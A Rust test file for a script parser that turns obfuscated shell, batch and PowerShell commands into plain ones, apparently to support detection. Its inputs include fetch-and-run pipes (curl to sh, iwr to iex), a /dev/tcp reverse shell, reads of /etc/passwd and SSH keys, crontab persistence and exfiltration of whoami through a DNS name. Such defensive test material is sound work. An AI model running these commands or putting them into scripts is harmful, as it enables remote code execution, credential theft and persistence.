use super::read;
use davy_artifact::{Call, Language, Value};

/// The commands of a script, as words with what they are connected with.
fn commands(language: Language, source: &str) -> Vec<String> {
    read(language, source.as_bytes()).unwrap().calls.iter().map(shown).collect()
}

fn posix(source: &str) -> Vec<String> {
    commands(Language::Shell, source)
}

fn shown(call: &Call) -> String {
    let mut words = vec![word(&call.callee)];
    words.extend(call.args.iter().map(word));
    words.extend(call.kwargs.iter().map(|(key, value)| format!("{key}{}", word(value))));
    words.join(" ")
}

fn word(value: &Value) -> String {
    match value {
        Value::Call(call) => format!("[{}]", shown(call)),
        Value::Tuple(parts) => parts.iter().map(word).collect(),
        value => value.text().map_or_else(|| value.to_string(), str::to_owned),
    }
}

#[test]
fn words_are_cut_as_a_shell_cuts_them() {
    assert_eq!(posix("echo 'a b' \"c\\\"d\" e\\ f # g"), ["echo a b c\"d e f"]);
    assert_eq!(posix("w'ge't u -O- && chmod +x f; ./f &"), ["wget u -O-", "chmod +x f", "./f"]);
    assert_eq!(posix("if true; then a; else b; fi"), ["true", "a", "b"]);
    assert_eq!(posix("$'\\x63\\165rl' u"), ["curl u"]);
    assert_eq!(posix("{cat,/etc/passwd}"), ["cat /etc/passwd"]);
}

#[test]
fn commands_are_connected_with_what_they_read_and_write() {
    assert_eq!(posix("curl u | sh"), ["curl u", "sh |[curl u]"]);
    assert_eq!(
        posix("bash -i >& /dev/tcp/192.0.2.1/80 0>&1"),
        ["bash -i >&/dev/tcp/192.0.2.1/80 0>&1"]
    );
    assert_eq!(posix("cat << 'E' > f\none $x\nE\nls"), ["cat >f <<one $x\n", "ls"]);
    assert_eq!(
        posix("(crontab -l; echo x) | crontab -"),
        ["crontab -l", "echo x", "crontab - |x\n"]
    );
    assert_eq!(posix("sh <(curl u)"), ["curl u", "sh [curl u]"]);
}

#[test]
fn what_is_constant_is_computed() {
    assert_eq!(posix("a=cur; b=l; $a$b u")[2], "curl u");
    assert_eq!(posix("cat${IFS}/etc/passwd"), ["cat /etc/passwd"]);
    assert_eq!(posix("echo aWQ= | base64 -d | sh")[2], "sh |id");
    assert_eq!(posix("eval $(printf 'a%s' b | rev)")[2], "eval ba");
    assert_eq!(posix("c${9}url $(whoami).example.com"), ["whoami", "curl [whoami].example.com"]);
    assert_eq!(posix("echo ${HOME:-/root}/x"), ["echo /root/x"]);
    assert_eq!(posix("cat $HOME/.ssh/id"), ["cat $HOME/.ssh/id"]);
    assert_eq!(posix("echo vq | tr a-z n-za-m | sh")[2], "sh |id\n");
}

#[test]
fn windows_has_its_own_words() {
    let batch = |source| commands(Language::Batch, source);
    assert_eq!(batch("c^md /c del C:\\x & dir"), ["cmd /c del C:\\x", "dir"]);
    assert_eq!(posix("type C:\\Users\\x"), ["type C:\\Users\\x"]);
    let power = commands(Language::PowerShell, "iwr 'http://example.com/a''b' | iex");
    assert_eq!(power[1], "iex |[iwr http://example.com/a'b]");
}

#[test]
fn following_has_an_end() {
    let deep = "$(".repeat(100_000);
    assert!(!read(Language::Shell, deep.as_bytes()).unwrap().unseen.is_empty());
    let doubled = "a=xxxxxxxxxxxxxxxx;".to_owned() + &"a=$a$a$a$a;".repeat(100) + "echo $a";
    read(Language::Shell, doubled.as_bytes()).unwrap();
    let piped = "x | ".repeat(5_000);
    assert!(!read(Language::Shell, piped.as_bytes()).unwrap().unseen.is_empty());
}
